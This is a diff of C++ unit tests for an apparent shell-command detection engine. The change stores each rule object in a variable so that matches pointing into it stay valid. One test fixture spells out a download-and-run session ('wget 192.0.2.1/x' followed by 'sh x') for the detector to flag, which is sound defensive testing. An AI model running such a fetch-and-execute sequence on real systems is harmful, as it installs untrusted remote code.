@@ -49,7 +49,8 @@ class ShellFields : public testing::TestWithParam<Case> {};
 
 TEST_P(ShellFields, AreSearched) {
   const auto& row = GetParam();
-  const auto matches = rule(row.field, row.pattern)->match(event(row.text));
+  const auto rules = rule(row.field, row.pattern);  // matches point into them
+  const auto matches = rules->match(event(row.text));
   if (row.layer == nullptr) {
     EXPECT_THAT(matches, IsEmpty());
     return;
@@ -98,7 +99,8 @@ TEST(ShellFields, FlowOfASession) {
   Event ended = event("", "session");
   ended.payload = *Json::parse(
       R"({"commands": [{"command_text": "cd /tmp"}, {"text": "wget 192.0.2.1/x"}, "sh x", 5, {}]})");
-  const auto matches = rule("flow", "-then-run .+", "session")->match(ended);
+  const auto rules = rule("flow", "-then-run .+", "session");
+  const auto matches = rules->match(ended);
   ASSERT_THAT(matches, SizeIs(1));
   EXPECT_EQ(matches[0].matched, "-then-run /tmp/x");
   EXPECT_THAT(rule("argv0", "wget", "session")->match(ended), IsEmpty());
@@ -146,7 +148,8 @@ TEST(ShellFields, OfManyCommands) {
 }
 
 TEST(ShellFields, OfALongTextAreMarked) {
-  const auto matches = rule("argv0", "^id$")->match(event("id; echo " + std::string(100'000, 'a')));
+  const auto rules = rule("argv0", "^id$");
+  const auto matches = rules->match(event("id; echo " + std::string(100'000, 'a')));
   ASSERT_THAT(matches, SizeIs(1));
   EXPECT_TRUE(matches[0].truncated);
 }
